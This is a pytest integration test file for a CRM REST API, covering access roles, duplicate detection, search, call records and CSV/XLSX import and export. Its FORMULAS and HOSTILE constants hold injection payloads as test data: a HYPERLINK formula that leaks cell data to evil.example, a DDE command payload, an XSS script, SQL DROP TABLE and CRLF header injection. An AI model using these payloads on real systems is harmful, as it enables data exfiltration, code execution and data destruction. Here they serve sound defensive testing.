"""The CRM REST API on real SQLite and PostgreSQL behind a real HTTP server."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta

import openpyxl  # type: ignore[import-untyped]
import pytest

from crm_bridge.api import ROUTES
from cti.events import CallCompleted, CallRecord
from cti.store.db import Database
from tests.integration.test_crm_harness import Crm, crm_server

T0 = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)


@pytest.fixture
async def crm(db: Database) -> AsyncIterator[Crm]:
    async with crm_server(db) as server:
        yield server


async def _create(crm: Crm, who: str, body: dict[str, object]) -> dict[str, object]:
    status, data = await crm.call(who, "POST", "/api/v1/customers", json=body)
    assert status == 201, data
    assert isinstance(data, dict)
    return data


# --- duplicates ----------------------------------------------------------------------


@pytest.mark.parametrize("second", ["13800138000", "0086-138-0013-8000", "+86 138 0013 8000"])
async def test_duplicate_number_across_formats(crm: Crm, second: str) -> None:
    first = await _create(crm, "agent1", {"name": "王小明", "phones": ["+86 138 0013 8000"]})
    contacts = first["contacts"]
    assert isinstance(contacts, list)
    assert contacts[0]["phones"][0] == {
        "id": contacts[0]["phones"][0]["id"],
        "raw": "+86 138 0013 8000",
        "e164": "+8613800138000",
        "label": "",
    }
    status, data = await crm.call(
        "agent2", "POST", "/api/v1/customers", json={"name": "Other", "phones": [second]}
    )
    assert status == 409
    # another agent's customer: the reason, never its name, company or owner (issue 13)
    assert data["candidates"] == [{"visible": False, "reasons": ["phone +8613800138000"]}]
    assert "王小明" not in json.dumps(data) and "agent1" not in json.dumps(data)
    status, data = await crm.call(
        "sup", "POST", "/api/v1/customers", json={"name": "Other", "phones": [second]}
    )
    assert status == 409
    assert [(c["id"], c["name"], c["owner"]) for c in data["candidates"]] == [
        (first["id"], "王小明", "agent1")
    ]
    # an agent may not force it, a supervisor may
    status, _ = await crm.call(
        "agent2",
        "POST",
        "/api/v1/customers",
        json={"name": "Other", "phones": [second], "force": True},
    )
    assert status == 403
    status, _ = await crm.call(
        "sup",
        "POST",
        "/api/v1/customers",
        json={"name": "Other", "phones": [second], "force": True},
    )
    assert status == 201


async def test_duplicate_email_and_similar_name_in_company(crm: Crm) -> None:
    a = await _create(
        crm,
        "agent1",
        {
            "kind": "company",
            "name": "Zhang San",
            "company": "ACME Ltd",
            "emails": ["Zhang.San@acme.example"],
        },
    )
    status, data = await crm.call(
        "agent1",
        "POST",
        "/api/v1/customers",
        json={"name": "Somebody", "emails": ["zhang.san@ACME.example"]},
    )
    assert status == 409 and data["candidates"][0]["id"] == a["id"]
    status, data = await crm.call(
        "agent1", "POST", "/api/v1/customers", json={"name": "zhang  san", "company": "acme ltd"}
    )
    assert status == 409
    assert data["candidates"][0]["reasons"] == ["similar name in the same company"]
    status, data = await crm.call(
        "agent1", "POST", "/api/v1/customers", json={"name": "Zhang Sam", "company": "ACME Ltd"}
    )
    assert status == 409  # one letter off
    # same name in another company, or a different name in the same company: fine
    await _create(crm, "agent1", {"name": "Zhang San", "company": "Other Co"})
    await _create(crm, "agent1", {"name": "Li Si", "company": "ACME Ltd"})


async def test_bad_phone_number_is_refused(crm: Crm) -> None:
    status, data = await crm.call(
        "agent1", "POST", "/api/v1/customers", json={"name": "X", "phones": ["call me maybe"]}
    )
    assert status == 400 and "not a phone number" in data["error"]


# --- search --------------------------------------------------------------------------


async def test_search(crm: Crm) -> None:
    wang = await _create(
        crm, "agent1", {"name": "王小明", "company": "北京科技有限公司", "phones": ["13800138000"]}
    )
    smith = await _create(
        crm,
        "agent1",
        {
            "name": "John Smith",
            "company": "Acme",
            "emails": ["john@smith.example"],
            "phones": ["+1 650 253 0000"],
        },
    )

    async def ids(q: str, who: str = "agent1") -> list[object]:
        status, data = await crm.call(who, "GET", "/api/v1/search", params={"q": q})
        assert status == 200, data
        return [c["id"] for c in data["customers"]]

    assert await ids("小明") == [wang["id"]]
    assert await ids("北京科技") == [wang["id"]]
    assert await ids("SMITH") == [smith["id"]]
    assert await ids("acme") == [smith["id"]]
    assert await ids("0013 8000") == [wang["id"]]
    assert await ids("138-0013") == [wang["id"]]
    assert await ids("650253") == [smith["id"]]
    assert await ids("john@smith") == [smith["id"]]
    assert await ids("nobody") == []
    assert await ids("%") == []  # LIKE wildcards are literal
    assert await ids("小明", "agent2") == []  # not agent2's


# --- roles -----------------------------------------------------------------------------


async def test_every_route_needs_a_token(crm: Crm) -> None:
    for method, path, _ in ROUTES:
        status, _ = await crm.call(None, method, path.replace("{id}", "1"))
        assert status == 401, (method, path)


async def test_role_limits(crm: Crm) -> None:
    admin_only = [(m, p) for m, p, _ in ROUTES if p.startswith("/api/v1/webhooks")]
    supervisor_only = [
        ("DELETE", "/api/v1/customers/1"),
        ("POST", "/api/v1/customers/1/reassign"),
        ("POST", "/api/v1/customers/import"),
        ("POST", "/api/v1/pool/return"),
        ("POST", "/api/v1/leads/1/assign"),
    ]
    for method, path in admin_only:
        for who in ("agent1", "sup"):
            status, _ = await crm.call(who, method, path.replace("{id}", "1"))
            assert status == 403, (who, method, path)
        status, _ = await crm.call("admin", method, path.replace("{id}", "1"))
        assert status in (200, 404), (method, path)
    for method, path in supervisor_only:
        status, data = await crm.call("agent1", method, path, data=b"{}")
        assert status == 403, (method, path, data)


async def test_agent_cannot_see_another_agents_customer(crm: Crm) -> None:
    mine = await _create(crm, "agent1", {"name": "Mine", "phones": ["13900139000"]})
    cid = mine["id"]
    contact_id = mine["contacts"][0]["id"]  # type: ignore[index]
    for method, path, body in [
        ("GET", f"/api/v1/customers/{cid}", None),
        ("PATCH", f"/api/v1/customers/{cid}", {"notes": "x"}),
        ("GET", f"/api/v1/customers/{cid}/audit", None),
        ("GET", f"/api/v1/customers/{cid}/interactions", None),
        ("POST", f"/api/v1/customers/{cid}/contacts", {"name": "c"}),
        ("GET", f"/api/v1/contacts/{contact_id}", None),
        ("PATCH", f"/api/v1/contacts/{contact_id}", {"notes": "x"}),
        ("POST", f"/api/v1/pool/{cid}/claim", None),
        ("POST", "/api/v1/interactions", {"customer_id": cid, "notes": "x"}),
        ("POST", "/api/v1/leads", {"customer_id": cid, "title": "x"}),
    ]:
        status, data = await crm.call("agent2", method, path, json=body)
        assert status == 404, (method, path, data)
    status, data = await crm.call("agent2", "GET", "/api/v1/customers")
    assert data["customers"] == []
    status, data = await crm.call("agent2", "GET", "/api/v1/customers/export")
    assert status == 200 and b"Mine" not in data
    status, data = await crm.call("sup", "GET", f"/api/v1/customers/{cid}")
    assert status == 200 and data["owner"] == "agent1"
    # an agent cannot create a customer for somebody else
    status, _ = await crm.call(
        "agent2", "POST", "/api/v1/customers", json={"name": "Y", "owner": "agent1"}
    )
    assert status == 403


async def test_changes_are_audited(crm: Crm) -> None:
    c = await _create(crm, "agent1", {"name": "Audited"})
    status, _ = await crm.call(
        "agent1", "PATCH", f"/api/v1/customers/{c['id']}", json={"tier": "vip", "tags": ["a"]}
    )
    assert status == 200
    status, data = await crm.call("sup", "GET", f"/api/v1/customers/{c['id']}/audit")
    assert [(a["actor"], a["action"]) for a in data["audit"]] == [
        ("agent1", "create"),
        ("agent1", "update"),
    ]
    assert data["audit"][1]["changes"] == {"tier": ["", "vip"], "tags": [[], ["a"]]}


# --- pool and care lists ---------------------------------------------------------------


async def test_pool_return_claim_reassign(crm: Crm) -> None:
    c = await _create(crm, "agent1", {"name": "Dormant"})
    fresh = await _create(crm, "agent1", {"name": "Fresh"})
    pool = crm.feature.services.pool  # type: ignore[union-attr]
    assert await pool.return_dormant(30) == []
    # 31 days later nobody touched "Dormant"; "Fresh" got a note from its owner meanwhile
    later = datetime.now(UTC) + timedelta(days=31)
    async with crm.db.session() as s, s.begin():
        from crm_bridge.models import Customer

        row = await s.get(Customer, fresh["id"])
        assert row is not None
        row.last_contact_at = later - timedelta(days=1)
    assert await pool.return_dormant(30, now=later) == [c["id"]]
    status, data = await crm.call("agent2", "GET", "/api/v1/pool")
    assert [x["id"] for x in data["customers"]] == [c["id"]]
    status, data = await crm.call("agent2", "GET", f"/api/v1/customers/{c['id']}")
    assert status == 200  # pool customers are visible to every agent
    status, _ = await crm.call(
        "agent2", "PATCH", f"/api/v1/customers/{c['id']}", json={"notes": "x"}
    )
    assert status == 403  # ... but must be claimed first
    status, data = await crm.call("agent2", "POST", f"/api/v1/pool/{c['id']}/claim")
    assert status == 200 and data["owner"] == "agent2"
    status, data = await crm.call("agent1", "POST", f"/api/v1/pool/{c['id']}/claim")
    assert status == 404  # agent1 no longer sees it
    status, data = await crm.call("sup", "POST", f"/api/v1/pool/{c['id']}/claim")
    assert status == 409
    status, data = await crm.call(
        "sup", "POST", f"/api/v1/customers/{c['id']}/reassign", json={"owner": "agent1"}
    )
    assert status == 200 and data["owner"] == "agent1"
    status, data = await crm.call("sup", "GET", f"/api/v1/customers/{c['id']}/audit")
    assert [a["action"] for a in data["audit"]] == ["create", "pool_return", "claim", "reassign"]
    assert data["audit"][1]["actor"] == "system"


async def test_care_lists(crm: Crm) -> None:
    await _create(
        crm, "agent1", {"name": "Birthday", "birthday": "1990-03-07", "phones": ["13700137000"]}
    )
    await _create(
        crm, "agent2", {"name": "Other", "birthday": "1985-03-07", "phones": ["13600136000"]}
    )
    status, data = await crm.call(
        "agent1", "GET", "/api/v1/care/birthdays", params={"date": "2026-03-07"}
    )
    assert [x["contact_name"] for x in data["contacts"]] == ["Birthday"]
    status, data = await crm.call(
        "sup", "GET", "/api/v1/care/birthdays", params={"date": "2026-03-07"}
    )
    assert len(data["contacts"]) == 2
    status, data = await crm.call(
        "sup", "GET", "/api/v1/care/birthdays", params={"date": "2026-03-08"}
    )
    assert data["contacts"] == []
    status, data = await crm.call("sup", "GET", "/api/v1/care/birthdays", params={"date": "x"})
    assert status == 400
    pool = crm.feature.services.pool  # type: ignore[union-attr]
    from crm_bridge.access import Actor

    later = datetime.now(UTC) + timedelta(days=10)
    assert len(await pool.dormant(5, Actor("sup", "supervisor"), now=later)) == 2
    assert len(await pool.dormant(5, Actor("agent1", "agent"), now=later)) == 1
    assert await pool.dormant(20, Actor("sup", "supervisor"), now=later) == []


# --- interactions ------------------------------------------------------------------------


async def test_call_completed_upserts_one_interaction(crm: Crm) -> None:
    c = await _create(crm, "agent1", {"name": "Caller", "phones": ["13800138000"]})
    record = CallRecord(
        linkedid="1767600000.42",
        started_at=T0,
        ended_at=T0 + timedelta(seconds=80),
        caller_num="013800138000",
        answered_at=T0 + timedelta(seconds=5),
        queue="sales",
        agent="agent1",
        wait_s=5.0,
        talk_s=75.0,
        disposition="answered",
    )
    crm.bus.publish(CallCompleted(record))
    await crm.feature.writer.flush()  # type: ignore[union-attr]
    status, data = await crm.call("agent1", "GET", f"/api/v1/customers/{c['id']}/interactions")
    assert status == 200 and len(data["interactions"]) == 1
    inter = data["interactions"][0]
    assert (inter["linkedid"], inter["caller_num"], inter["outcome"], inter["contact_id"]) == (
        "1767600000.42",
        "+8613800138000",
        "answered",
        c["contacts"][0]["id"],  # type: ignore[index]
    )
    status, data = await crm.call(
        "agent1",
        "PATCH",
        f"/api/v1/interactions/{inter['id']}",
        json={"notes": "wants a quote", "disposition": "callback"},
    )
    assert status == 200
    status, _ = await crm.call(
        "agent2", "PATCH", f"/api/v1/interactions/{inter['id']}", json={"notes": "x"}
    )
    assert status == 404
    # the same call again (e.g. CDR recovery): still one row, agent's notes kept
    crm.bus.publish(CallCompleted(record))
    await crm.feature.writer.flush()  # type: ignore[union-attr]
    status, data = await crm.call("agent1", "GET", f"/api/v1/customers/{c['id']}/interactions")
    assert len(data["interactions"]) == 1
    assert data["interactions"][0]["notes"] == "wants a quote"
    assert data["interactions"][0]["disposition"] == "callback"
    # the directory the IVR/ACD use
    directory = crm.services.customer_directory
    assert directory is not None
    card = await directory.lookup_number("+8613800138000")
    assert card is not None and card.customer_id == c["id"] and card.owner_agent == "agent1"
    assert await directory.lookup_number("+8613900000000") is None
    assert await directory.lookup_number("<script>") is None
    recent = await directory.recent_interactions(int(c["id"]))
    assert [r["linkedid"] for r in recent] == ["1767600000.42"]
    status, data = await crm.call(
        "agent1", "GET", "/api/v1/lookup", params={"number": "13800138000"}
    )
    assert status == 200 and data["customer_id"] == c["id"] and data["owner_agent"] == "agent1"
    status, data = await crm.call("sup", "GET", "/api/v1/lookup", params={"number": "13800138000"})
    assert status == 200 and data["customer_id"] == c["id"]
    # another agent's customer is not found by number, as it is not by id (issue 13)
    status, data = await crm.call(
        "agent2", "GET", "/api/v1/lookup", params={"number": "13800138000"}
    )
    assert status == 404 and data["error"] == "no customer with this number"
    assert (await crm.call("agent2", "GET", f"/api/v1/customers/{c['id']}"))[0] == 404
    # a pool customer is everybody's
    status, _ = await crm.call("sup", "POST", f"/api/v1/customers/{c['id']}/reassign",
                               json={"owner": None})  # fmt: skip
    assert status == 200
    status, data = await crm.call(
        "agent2", "GET", "/api/v1/lookup", params={"number": "13800138000"}
    )
    assert status == 200 and data["customer_id"] == c["id"] and data["owner_agent"] == ""


async def test_leads(crm: Crm) -> None:
    c = await _create(crm, "agent1", {"name": "Prospect"})
    status, lead = await crm.call(
        "agent1", "POST", "/api/v1/leads", json={"customer_id": c["id"], "title": "100 seats"}
    )
    assert status == 201 and lead["status"] == "new" and lead["owner"] == "agent1"
    status, data = await crm.call(
        "agent1", "PATCH", f"/api/v1/leads/{lead['id']}", json={"status": "qualified"}
    )
    assert status == 200 and data["status"] == "qualified"
    status, data = await crm.call(
        "agent1", "PATCH", f"/api/v1/leads/{lead['id']}", json={"status": "bogus"}
    )
    assert status == 400
    status, data = await crm.call(
        "sup", "POST", f"/api/v1/leads/{lead['id']}/assign", json={"owner": "agent2"}
    )
    assert status == 200 and data["owner"] == "agent2"
    status, data = await crm.call("sup", "GET", f"/api/v1/leads/{lead['id']}")
    assert [(a["from"], a["to"]) for a in data["assignments"]] == [
        (None, "agent1"),
        ("agent1", "agent2"),
    ]
    status, _ = await crm.call("agent1", "GET", f"/api/v1/leads/{lead['id']}")
    assert status == 404


# --- import / export -----------------------------------------------------------------------

CSV_OK = (
    "name,company,phones,emails,tags,birthday\n"
    "张伟,华为,+86 138 0013 8001,zw@example.com,vip;gold,1980-01-02\n"
    "Alice,Acme,0086-139-0013-9001,,,\n"
)


async def test_import_with_bad_rows_imports_nothing(crm: Crm) -> None:
    bad = (
        CSV_OK
        + "Bob,,not-a-number,,,\n"  # line 4: bad phone
        + ",,,,,\n"  # line 5: blank row, skipped
        + "Carol,,,,,1990-13-45\n"  # line 6: bad date
        + "Dup,,13800138001,,,\n"  # line 7: same number as line 2
    )
    status, report = await crm.call(
        "sup",
        "POST",
        "/api/v1/customers/import",
        data=bad.encode(),
        headers={"Content-Type": "text/csv"},
    )
    assert status == 422
    assert report["imported"] == 0
    assert [e["line"] for e in report["errors"]] == [4, 6, 7]
    assert "not a phone number" in report["errors"][0]["error"]
    assert report["errors"][2]["error"] == "duplicate"
    status, data = await crm.call("sup", "GET", "/api/v1/customers")
    assert data["customers"] == []  # nothing half-imported
    status, report = await crm.call(
        "sup", "POST", "/api/v1/customers/import", data=b"\xff\xfename\n"
    )
    assert status == 400 and "UTF-8" in report["error"]
    status, report = await crm.call(
        "sup", "POST", "/api/v1/customers/import", data=b"name,evil\nx,y\n"
    )
    assert status == 400 and "unknown columns" in report["error"]


async def test_import_then_export_csv_and_xlsx(crm: Crm) -> None:
    status, report = await crm.call("sup", "POST", "/api/v1/customers/import", data=CSV_OK.encode())
    assert status == 200 and report == {"imported": 2, "rows": 2, "errors": []}
    status, body = await crm.call("sup", "GET", "/api/v1/customers/export")
    assert status == 200
    text = body.decode("utf-8-sig")
    assert (  # a number starting with "+" is neutralised like a formula
        "张伟,,华为,,vip;gold,,,张伟,'+86 138 0013 8001,zw@example.com,1980-01-02"
        in text.replace("person,", "").replace("张伟,华为", "张伟,,华为")
    )
    status, body = await crm.call(
        "sup", "GET", "/api/v1/customers/export", params={"format": "xlsx"}
    )
    assert status == 200
    ws = openpyxl.load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    assert rows[0][:3] == ["name", "kind", "company"]
    assert sorted(r[0] for r in rows[1:]) == ["Alice", "张伟"]
    # re-importing the export: every row is a duplicate now, nothing changes
    status, report = await crm.call(
        "sup", "POST", "/api/v1/customers/import", params={"format": "xlsx"}, data=body
    )
    assert status == 422 and {e["error"] for e in report["errors"]} == {"duplicate"}


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "company": "+cmd|' /C calc'!A0",
    "notes": "\t=1+1",
    "tier": "@SUM(A1)",
    "tags": ["-2+3"],
}


async def test_csv_export_never_writes_a_formula(crm: Crm) -> None:
    """Issue 13 item 2: every cell a spreadsheet would run as a formula gets a leading
    quote, as the statistics CSV does; the exported file imports back unchanged."""
    created = await _create(crm, "sup", {**FORMULAS, "contacts": [
        {"name": "=1+1", "phones": [{"number": "+86 138 0013 8009"}]}]})  # fmt: skip
    status, body = await crm.call("sup", "GET", "/api/v1/customers/export")
    assert status == 200
    (header, row) = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    for column, value in {**FORMULAS, "tags": FORMULAS["tags"][0], "contact_name": "=1+1",
                          "phones": "+86 138 0013 8009"}.items():  # fmt: skip
        assert cells[column] == "'" + value, column
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
    # the export imports back as it was (here: into an empty store)
    await crm.call("sup", "DELETE", f"/api/v1/customers/{created['id']}")
    status, report = await crm.call("sup", "POST", "/api/v1/customers/import", data=body)
    assert status == 200, report
    status, data = await crm.call("sup", "GET", "/api/v1/customers")
    (back,) = data["customers"]
    assert {k: back[k] for k in FORMULAS} == FORMULAS


# --- hostile values ------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "'; DROP TABLE crm_customers; --",
    "line1\r\nX-Injected: yes",
    "emoji 😀 and 中文 and \u202e",
]


async def test_hostile_values_round_trip(crm: Crm) -> None:
    for value in HOSTILE:
        c = await _create(
            crm, "agent1", {"name": value[:200], "notes": value, "tags": ["t"], "company": value}
        )
        status, data = await crm.call("agent1", "GET", f"/api/v1/customers/{c['id']}")
        assert (data["name"], data["notes"], data["company"]) == (value[:200], value, value)
    big = "x" * 65536
    status, data = await crm.call(
        "agent1", "POST", "/api/v1/customers", json={"name": "big", "notes": big}
    )
    assert status == 400 and data["details"][0]["field"] == "notes"
    status, data = await crm.call(
        "agent1",
        "POST",
        "/api/v1/customers",
        data=b'{"name": "\xff\xfe"}',
        headers={"Content-Type": "application/json"},
    )
    assert status == 400 and "UTF-8" in data["error"]
    status, data = await crm.call(
        "agent1", "POST", "/api/v1/customers", data=b'{"name": "a\\ud800b"}'
    )
    assert status == 400
    status, data = await crm.call(
        "agent1", "POST", "/api/v1/customers", data=b'{"name": "a\\u0000"}'
    )
    assert status == 400
    status, data = await crm.call("agent1", "POST", "/api/v1/customers", data=b"[1]")
    assert status == 400
    status, data = await crm.call("agent1", "GET", "/api/v1/customers/1x")
    assert status in (400, 404)
    status, data = await crm.call("agent1", "GET", "/api/v1/customers", params={"limit": "9999"})
    assert status == 400
    status, data = await crm.call(
        "agent1", "POST", "/api/v1/customers", json={"name": "x", "unexpected": 1}
    )
    assert status == 400
    assert re.search("unexpected", str(data))
    assert date.today()  # keep the date import used
